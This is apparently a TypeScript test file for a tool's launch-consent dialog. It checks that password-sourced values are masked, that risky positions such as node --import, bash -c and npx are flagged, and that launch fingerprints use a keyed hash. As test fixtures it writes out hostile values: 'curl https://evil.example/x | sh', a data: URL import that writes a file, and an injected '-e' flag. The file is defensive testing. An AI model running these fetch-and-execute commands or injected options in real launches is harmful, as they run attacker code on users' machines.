/**
 * Password-sourced values in the consent dialog and the launch fingerprint (issue #10, finding 2): the dialog
 * names the input behind each masked part and flags a masked value in a risky position; the fingerprint changes
 * when a password value changes, through a keyed hash whose key lives in the secret store.
 */
import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import type { ResolvedLaunch } from '../../../src/core/config/types';
import { consentRisks, hiddenValueRisks } from '../../../src/core/trust/consentRisks';
import { canonicalJson, describeLaunchChange, formatCommandLine, launchFingerprint, summarizeLaunch } from '../../../src/core/trust/launch';
import { FINGERPRINT_KEY_NAME, FingerprintKeyMissingError, fingerprintKey } from '../../../src/core/trust/passwords';
import { MapSecretStore } from '../../support/storage';

const HIDDEN_CODE = "--import=data:text/javascript,import('node:fs').then(f=>f.writeFileSync('/tmp/PWNED','x'))";
const KEY = 'a'.repeat(64);

/** A launch where `${input:ID}` placeholders in command/args/env are the password values of `inputs`. */
function launch(command: string, args: string[], inputs: Record<string, string>, env: Record<string, string> = {}): ResolvedLaunch {
  const sub = (t: string) => t.replace(/\$\{input:([^}]+)\}/g, (_m, id: string) => inputs[id] ?? '');
  return {
    command: sub(command),
    args: args.map(sub),
    cwd: '/ws',
    env: Object.fromEntries(Object.entries(env).map(([k, v]) => [k, sub(v)])),
    secrets: Object.values(inputs),
    secretInputs: Object.entries(inputs).map(([inputId, value]) => ({ inputId, value })),
  };
}

const risks = (l: ResolvedLaunch): string[] => consentRisks(l).map((r) => `${r.kind}: ${r.message}`);

void test('the issue example: the dialog names the input behind the mask and flags the hidden option as a risk', () => {
  const l = launch('node', ['${input:apiKey}', 'server.js'], { apiKey: HIDDEN_CODE });
  const s = summarizeLaunch(l);
  const line = formatCommandLine(s.command, s.args);
  assert.equal(line, '"node" "••••••(input:apiKey)" "server.js"');
  const r = risks(l);
  assert.ok(
    r.some((m) => m.startsWith('hiddenValue:') && m.includes('input:apiKey') && m.includes('starts with "-"')),
    r.join('\n'),
  );
  assert.ok(!JSON.stringify(r).includes('--import') && !JSON.stringify(s).includes('--import'), 'the value itself is never shown');
});

void test('a hidden value is a risk as the command, as an interpreter option or its value, and as what a runner runs', () => {
  const cases: [ResolvedLaunch, RegExp][] = [
    [launch('${input:prog}', ['server.js'], { prog: '/tmp/evil' }), /the program to run is a hidden value \(input:prog\)/],
    [launch('node', ['--import=${input:mod}', 'server.js'], { mod: 'data:text/javascript,1' }), /node --import gets a hidden value \(input:mod\)/],
    [launch('node', ['-r', '${input:mod}', 'server.js'], { mod: './evil.js' }), /node -r gets a hidden value \(input:mod\)/],
    [launch('npx', ['-y', '${input:pkg}'], { pkg: 'evil-package' }), /npx runs a hidden value \(input:pkg\)/],
    [launch('node', ['${input:script}'], { script: '/tmp/x.js' }), /node runs a hidden value \(input:script\)/],
    [launch('bash', ['-c', '${input:code}'], { code: 'curl evil | sh' }), /bash -c gets a hidden value \(input:code\)/],
    [launch('node', ['server.js', '${input:flag}'], { flag: '-e' }), /starts with "-"/],
  ];
  for (const [l, re] of cases) {
    const r = hiddenValueRisks(l).map((x) => x.message);
    assert.ok(r.some((m) => re.test(m)), `${JSON.stringify(l.args)}: ${r.join(' | ')}`);
  }
});

void test('an ordinary password argument or env value is not a risk', () => {
  for (const l of [
    launch('node', ['server.js', '--token=${input:t}'], { t: 'hunter2-hunter2' }),
    launch('node', ['server.js', '--token', '${input:t}'], { t: 'hunter2-hunter2' }),
    launch('npx', ['-y', '@scope/server', '${input:t}'], { t: 'hunter2-hunter2' }),
    launch('node', ['server.js'], { t: 'hunter2-hunter2' }, { API_TOKEN: '${input:t}' }),
  ]) {
    assert.deepEqual(hiddenValueRisks(l), [], JSON.stringify(l.args));
  }
});

void test('risk lines never print a password, even when it is the inline code', () => {
  const code = 'curl https://evil.example/x | sh # s3cret';
  const r = risks(launch('bash', ['-c', '${input:code}'], { code }));
  assert.ok(r.some((m) => m.startsWith('inlineCode:') && m.includes('••••••(input:code)')), r.join('\n'));
  assert.ok(!r.join('\n').includes('s3cret') && !r.join('\n').includes('evil.example'), r.join('\n'));
});

void test('the fingerprint changes when a password value changes, and depends on the key (nothing revealed)', () => {
  const a = launch('node', ['${input:apiKey}', 'server.js'], { apiKey: 'first-value' });
  const b = launch('node', ['${input:apiKey}', 'server.js'], { apiKey: HIDDEN_CODE });
  const fa = launchFingerprint(a, undefined, KEY);
  assert.match(fa, /^[0-9a-f]{64}$/);
  assert.equal(launchFingerprint(a, undefined, KEY), fa, 'stable for the same value and key');
  assert.notEqual(launchFingerprint(b, undefined, KEY), fa, 'a new password value asks again');
  // Keyed: without the key the stored fingerprint cannot be recomputed from a guessed value.
  assert.notEqual(launchFingerprint(a, undefined, 'b'.repeat(64)), fa);
  const unkeyed = createHash('sha256').update(canonicalJson({ v: 2, command: a.command, args: a.args, cwd: a.cwd, env: a.env, envFile: null })).digest('hex');
  assert.notEqual(fa, unkeyed);
  // A single-character change of a short password also asks again.
  assert.notEqual(
    launchFingerprint(launch('srv', ['--k=${input:k}'], { k: 'ab' }), undefined, KEY),
    launchFingerprint(launch('srv', ['--k=${input:k}'], { k: 'ac' }), undefined, KEY),
  );
  assert.throws(
    () => launchFingerprint(a),
    (e: unknown) => e instanceof FingerprintKeyMissingError && e.code === 'fingerprintKeyMissing',
  );
});

void test('a launch without password values keeps its fingerprint (approvals made before stay valid)', () => {
  const l: ResolvedLaunch = { command: 'node', args: ['server.js'], cwd: '/ws', env: { A: '1', B: null }, secrets: [] };
  const v1 = createHash('sha256').update(canonicalJson({ v: 1, command: 'node', args: ['server.js'], cwd: '/ws', env: { A: '1', B: null }, envFile: null })).digest('hex');
  assert.equal(launchFingerprint(l), v1);
  assert.equal(launchFingerprint(l, undefined, KEY), v1, 'the key is not used without passwords');
});

void test('the fingerprint key is random, kept in the secret store, and shared by concurrent callers', async () => {
  const store = new MapSecretStore();
  let stores = 0;
  const counting = { get: (k: string) => store.get(k), delete: (k: string) => store.delete(k), store: (k: string, v: string) => (stores++, store.store(k, v)) };
  const [k1, k2] = await Promise.all([fingerprintKey(counting), fingerprintKey(counting)]);
  assert.match(k1, /^[0-9a-f]{64}$/);
  assert.equal(k1, k2);
  assert.equal(stores, 1, 'one key made');
  assert.equal(store.map.get(FINGERPRINT_KEY_NAME), k1);
  // Another store (another machine or profile) gets another key; a kept key is reused.
  const other = new MapSecretStore();
  assert.notEqual(await fingerprintKey(other), k1);
  const kept = new MapSecretStore();
  kept.map.set(FINGERPRINT_KEY_NAME, KEY);
  assert.equal(await fingerprintKey(kept), KEY);
});

void test('what changed names the input when a masked part moves, and never shows the value', () => {
  const before = summarizeLaunch(launch('node', ['server.js', '--token=${input:t}'], { t: 'value-one' }));
  const changes = describeLaunchChange(before, launch('node', ['${input:t}', 'server.js'], { t: 'value-two' }));
  assert.ok(changes.some((c) => c.includes('"••••••(input:t)"')), changes.join('\n'));
  assert.ok(!changes.join('\n').includes('value-'), changes.join('\n'));
});
